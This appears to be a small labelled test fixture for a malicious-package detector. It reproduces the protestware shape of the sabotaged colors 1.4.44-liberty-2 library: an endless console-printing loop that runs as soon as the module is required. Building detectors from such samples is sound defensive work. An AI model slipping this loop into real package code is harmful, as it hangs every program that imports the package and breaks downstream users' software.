// expect: malicious
// source: colors 1.4.44-liberty-2 (2022-01) lib/index.js shape: an endless loop printing at require.
for (let i = 666; i < Infinity; i++) {
  console.log('testing testing testing'.split('').reverse().join(''));
}
